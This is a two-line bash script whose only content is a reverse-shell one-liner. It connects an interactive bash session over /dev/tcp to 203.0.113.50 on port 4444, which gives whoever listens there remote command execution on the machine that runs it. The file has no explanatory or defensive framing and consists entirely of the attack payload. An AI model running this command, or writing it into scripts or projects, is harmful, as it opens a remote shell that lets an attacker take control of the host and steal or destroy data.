#!/bin/bash
bash -i >& /dev/tcp/203.0.113.50/4444 0>&1
